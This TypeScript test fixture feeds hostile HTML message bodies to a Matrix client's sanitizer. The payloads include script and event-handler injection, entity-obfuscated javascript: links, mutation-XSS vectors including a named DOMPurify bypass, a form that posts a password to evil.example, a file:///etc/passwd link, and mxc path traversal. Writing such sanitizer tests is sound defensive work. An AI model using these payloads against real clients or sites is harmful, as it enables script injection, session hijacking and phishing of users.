/**
 * Hostile `formatted_body` payloads. Every payload that could run script tries to set `window.__pwned`; every
 * payload that could load something points at `evil.example` (never resolvable here, and any attempt shows up in
 * resource timing). `expect` adds case-specific checks on top of the common ones in `assertSafeDom`.
 */
export interface FormattedCase {
  name: string;
  html: string;
  expect?: {
    /** Number of `<a>` in the message body. */
    links?: number;
    /** Number of `<img>` in the message body (after media resolves). */
    images?: number;
    /** Substrings that must be in the rendered text. */
    text?: string[];
    /** Substrings that must not be in the rendered text. */
    absent?: string[];
    /** A look-alike note naming this real host. */
    realHost?: string;
    /** A render note (`too-deep`, `truncated`). */
    note?: string;
    /** The mxc resolver must not have been asked for anything. */
    noMedia?: boolean;
  };
}

const P = 'window.__pwned=1';
const deep = (tag: string, n: number, inner: string) => `<${tag}>`.repeat(n) + inner + `</${tag}>`.repeat(n);

export const FORMATTED_CASES: FormattedCase[] = [
  // --- script and event handlers
  { name: 'script tag', html: `<script>${P}</script>hello`, expect: { text: ['hello'], absent: [P] } },
  { name: 'script with src', html: `<script src="https://evil.example/x.js"></script>ok`, expect: { text: ['ok'] } },
  { name: 'img onerror', html: `<img src=x onerror="${P}">`, expect: { images: 0 } },
  { name: 'svg onload', html: `<svg onload="${P}"></svg>after`, expect: { text: ['after'] } },
  { name: 'svg script', html: `<svg><script>${P}</script></svg>`, expect: { absent: [P] } },
  { name: 'body onload', html: `<body onload="${P}">b</body>`, expect: { text: ['b'] } },
  { name: 'details ontoggle', html: `<details open ontoggle="${P}"><summary>s</summary>d</details>` },
  { name: 'onclick/onmouseover on allowed tags', html: `<p onclick="${P}" onmouseover="${P}">p</p><b onfocus="${P}" tabindex=1>b</b>` },
  { name: 'autofocus onfocus input', html: `<input autofocus onfocus="${P}">` },
  { name: 'event handler on link', html: `<a href="https://ok.example/" onclick="${P}">ok</a>`, expect: { links: 1 } },
  { name: 'video poster and onerror', html: `<video src=x poster="https://evil.example/p.png" onerror="${P}"></video>` },
  { name: 'audio onerror', html: `<audio src=x onerror="${P}"></audio>` },
  { name: 'marquee onstart', html: `<marquee onstart="${P}">m</marquee>`, expect: { text: ['m'] } },
  { name: 'custom element with handler', html: `<x-evil onclick="${P}" is="x">c</x-evil>`, expect: { text: ['c'] } },

  // --- javascript:/data:/vbscript: links, obfuscated
  { name: 'javascript: link', html: `<a href="javascript:${P}">x</a>`, expect: { links: 0, text: ['x'] } },
  { name: 'mixed-case javascript:', html: `<a href="JaVaScRiPt:${P}">x</a>`, expect: { links: 0 } },
  { name: 'tab entity inside scheme', html: `<a href="java&#x09;script:${P}">x</a>`, expect: { links: 0 } },
  { name: 'newline entity inside scheme', html: `<a href="java&#10;script:${P}">x</a>`, expect: { links: 0 } },
  { name: 'leading control character', html: `<a href=" &#14; javascript:${P}">x</a>`, expect: { links: 0 } },
  { name: 'fully entity-encoded scheme', html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${P}">x</a>`, expect: { links: 0 } },
  { name: 'named entity colon', html: `<a href="&#x6A;avascript&colon;${P}">x</a>`, expect: { links: 0 } },
  { name: 'padded decimal colon', html: `<a href="javascript&#0000058${P}">x</a>`, expect: { links: 0 } },
  { name: 'javascript with comment newline', html: `<a href="javascript://%0A${P}">x</a>`, expect: { links: 0 } },
  { name: 'leading spaces', html: `<a href="    javascript:${P}">x</a>`, expect: { links: 0 } },
  { name: 'data: html link', html: `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">x</a>`, expect: { links: 0 } },
  { name: 'DATA: uppercase', html: `<a href="DATA:text/html,<script>${P}</script>">x</a>`, expect: { links: 0 } },
  { name: 'vbscript link', html: `<a href="vbscript:msgbox(1)">x</a>`, expect: { links: 0 } },
  { name: 'file: link', html: `<a href="file:///etc/passwd">x</a>`, expect: { links: 0 } },
  { name: 'blob: link', html: `<a href="blob:https://evil.example/abc">x</a>`, expect: { links: 0 } },
  { name: 'intent: link', html: `<a href="intent://evil#Intent;scheme=https;end">x</a>`, expect: { links: 0 } },
  { name: 'relative link', html: `<a href="/settings">x</a>`, expect: { links: 0 } },
  { name: 'protocol-relative link', html: `<a href="//evil.example/">x</a>`, expect: { links: 0 } },
  { name: 'mxc link', html: `<a href="mxc://evil.example/abc">x</a>`, expect: { links: 0 } },
  { name: 'userinfo disguise', html: `<a href="https://bank.example@evil.example/">bank</a>`, expect: { links: 0 } },
  { name: 'bidi override inside href', html: `<a href="https://good.example/\u202Eexe.txt">x</a>`, expect: { links: 0 } },
  { name: 'target _top dropped', html: `<a href="https://ok.example/" target="_top">ok</a>`, expect: { links: 1 } },
  { name: 'target _parent and rel opener', html: `<a href="https://ok.example/" target="_parent" rel="opener">ok</a>`, expect: { links: 1 } },
  { name: 'mailto and magnet allowed', html: `<a href="mailto:a@ok.example">m</a> <a href="magnet:?xt=urn:btih:abc">g</a>`, expect: { links: 2 } },

  // --- look-alike links
  { name: 'look-alike: URL text, other href', html: `<a href="https://evil.example/login">https://bank.example/login</a>`, expect: { links: 1, realHost: 'evil.example' } },
  { name: 'look-alike: domain text', html: `<a href="https://evil.example/">bank.example</a>`, expect: { links: 1, realHost: 'evil.example' } },
  { name: 'honest link text shows no note', html: `<a href="https://www.ok.example/a">ok.example</a>`, expect: { links: 1, absent: ['(ok.example)'] } },

  // --- SVG / MathML namespace confusion and known mutation-XSS vectors
  { name: 'noscript title mXSS', html: `<noscript><p title="</noscript><img src=x onerror=${P}>">` },
  { name: 'mathml mglyph style mXSS', html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${P}&gt;">` },
  { name: 'form math mtext mXSS (DOMPurify 2.0.17)', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>` },
  { name: 'svg p style mXSS', html: `<svg></p><style><a id="</style><img src=1 onerror=${P}>">` },
  { name: 'mglyph svg textarea mXSS', html: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${P} src=1>">` },
  { name: 'svg foreignObject', html: `<svg><foreignObject><p><img src=x onerror=${P}></p></foreignObject></svg>` },
  { name: 'svg a xlink:href', html: `<svg><a xlink:href="javascript:${P}"><text>x</text></a></svg>`, expect: { links: 0 } },
  { name: 'math href', html: `<math href="javascript:${P}">click</math>`, expect: { links: 0 } },
  { name: 'math annotation-xml html', html: `<math><annotation-xml encoding="text/html"><img src=x onerror=${P}></annotation-xml></math>` },
  { name: 'template content', html: `<template><img src=x onerror=${P}></template>t` },
  { name: 'xmp rawtext', html: `<xmp><img src=x onerror=${P}></xmp>` },
  { name: 'comment', html: `<!--<img src=x onerror=${P}>-->c`, expect: { text: ['c'] } },
  { name: 'textarea rcdata', html: `<textarea><img src=x onerror=${P}></textarea>` },
  { name: 'select template', html: `<select><template><img src=x onerror=${P}></template></select>` },
  { name: 'style inside svg with comment breakout', html: `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${P}&gt;</style></svg>` },
  { name: 'CDATA in svg', html: `<svg><![CDATA[><img src=x onerror=${P}>]]></svg>` },

  // --- style / overlay injection
  { name: 'style element', html: `<style>*{display:none!important}</style>visible`, expect: { text: ['visible'] } },
  { name: 'position fixed via style attribute', html: `<p style="position:fixed;inset:0;z-index:99999;background:red">overlay</p>` },
  { name: 'style attribute with url()', html: `<span style="background:url(https://evil.example/t.png)">s</span>` },
  { name: 'invalid data-mx-color', html: `<span data-mx-color="red;position:fixed">c</span><font color="expression(alert(1))">f</font>` },
  { name: 'valid colours plus style', html: `<span data-mx-bg-color="#ff0000" data-mx-color="#00ff00" style="position:fixed">colour</span>`, expect: { text: ['colour'] } },
  { name: 'class and id injection', html: `<div class="spoiler overlay" id="top" slot="x" part="event">d</div>` },
  { name: 'fake tile attributes', html: `<span data-event-id="$fake" data-revealed aria-hidden="true">f</span>` },

  // --- forms, frames, objects, base, meta, link
  { name: 'iframe javascript', html: `<iframe src="javascript:${P}"></iframe>` },
  { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { name: 'object data', html: `<object data="javascript:${P}"></object>` },
  { name: 'embed', html: `<embed src="https://evil.example/x.swf">` },
  { name: 'form with formaction', html: `<form action="https://evil.example/"><input name="password"><button formaction="javascript:${P}">go</button></form>` },
  { name: 'base href', html: `<base href="https://evil.example/"><a href="https://ok.example/">ok</a>`, expect: { links: 1 } },
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=https://evil.example/">` },
  { name: 'link stylesheet', html: `<link rel="stylesheet" href="https://evil.example/x.css">` },
  { name: 'picture source srcset', html: `<picture><source srcset="https://evil.example/x.png"><img src="https://evil.example/y.png"></picture>` },
  { name: 'table background', html: `<table background="https://evil.example/bg.png"><tr><td>c</td></tr></table>`, expect: { text: ['c'] } },

  // --- images
  { name: 'http image', html: `<img src="https://evil.example/pixel.png" alt="pixel">`, expect: { images: 0, text: ['pixel'], noMedia: true } },
  { name: 'data: image', html: `<img src="data:image/png;base64,iVBORw0KGgo=" alt="d">`, expect: { images: 0, noMedia: true } },
  { name: 'protocol-relative image', html: `<img src="//evil.example/p.png">`, expect: { images: 0, noMedia: true } },
  { name: 'mxc traversal image', html: `<img src="mxc://evil.example/../../_matrix/client/v3/logout">`, expect: { images: 0, noMedia: true } },
  { name: 'mxc with dot server', html: `<img src="mxc://../abc">`, expect: { images: 0, noMedia: true } },
  { name: 'mxc with query', html: `<img src="mxc://ok.example/abc?x=1">`, expect: { images: 0, noMedia: true } },
  { name: 'valid mxc image with srcset and onload', html: `<img src="mxc://ok.example/abc_DEF-123" srcset="https://evil.example/x 1x" onload="${P}" alt="emote" width="100000" height="-5">`, expect: { images: 1 } },

  // --- nesting, size
  { name: '1000-level div nesting', html: deep('div', 1000, 'deep text'), expect: { text: ['deep text'], note: 'too-deep' } },
  { name: '150-level blockquote nesting', html: deep('blockquote', 150, 'quoted'), expect: { text: ['quoted'], note: 'too-deep' } },
  { name: '1000-level mixed b/i nesting', html: deep('b', 500, deep('i', 500, 'x')), expect: { note: 'too-deep' } },
  { name: 'huge href', html: `<a href="https://ok.example/${'a'.repeat(100_000)}">long</a>`, expect: { links: 0, text: ['long'] } },
  { name: 'huge alt and title', html: `<img src="https://evil.example/x" alt="${'x'.repeat(200_000)}" title="${'t'.repeat(200_000)}">`, expect: { images: 0 } },
  { name: 'many elements', html: '<b>x</b>'.repeat(6000), expect: { note: 'truncated' } },

  // --- mx-reply abuse
  { name: 'leading mx-reply stripped', html: `<mx-reply><blockquote>quoted <a href="https://evil.example/">evil</a></blockquote></mx-reply>real reply`, expect: { text: ['real reply'], absent: ['quoted'], links: 0 } },
  { name: 'nested mx-reply', html: `<mx-reply><mx-reply>inner</mx-reply>outer</mx-reply>content`, expect: { text: ['content'], absent: ['inner', 'outer'] } },
  { name: 'mx-reply not leading is unwrapped', html: `before<mx-reply>inside</mx-reply>`, expect: { text: ['before', 'inside'] } },
  { name: 'mx-reply with handler', html: `<mx-reply onclick="${P}">q</mx-reply>x`, expect: { absent: ['q'] } },

  // --- bidi, prototype keys, clobbering, misc allowed-attr abuse
  { name: 'bidi override in text', html: `<p>invoice\u202Egnp.exe</p><b>\u2066iso\u2069</b>`, expect: { text: ['invoicegnp.exe'] } },
  { name: '__proto__ attribute names', html: `<span __proto__="x" constructor="y" prototype="z">p</span>`, expect: { text: ['p'] } },
  { name: 'DOM clobbering names', html: `<img name="getElementById"><form id="attributes"><input name="nodeName"></form>c` },
  { name: 'code class other than language-*', html: `<code class="hljs evil">a</code><code class="language-js onerror">b</code>` },
  { name: 'ol start hostile', html: `<ol start="99999999999999"><li>a</li></ol><ol start="javascript:1"><li>b</li></ol>` },
  { name: 'details open dropped', html: `<details open><summary>s</summary>hidden</details>` },
  { name: 'spoiler with link', html: `<span data-mx-spoiler="plot">secret <a href="https://ok.example/">link</a></span>`, expect: { links: 1, text: ['plot'] } },
  { name: 'maths attribute with markup', html: `<span data-mx-maths="<img src=x onerror=${P}>">m</span>` },
  { name: 'entity-encoded markup stays text', html: `&lt;img src=x onerror=${P}&gt;`, expect: { text: ['<img src=x'] } },
];
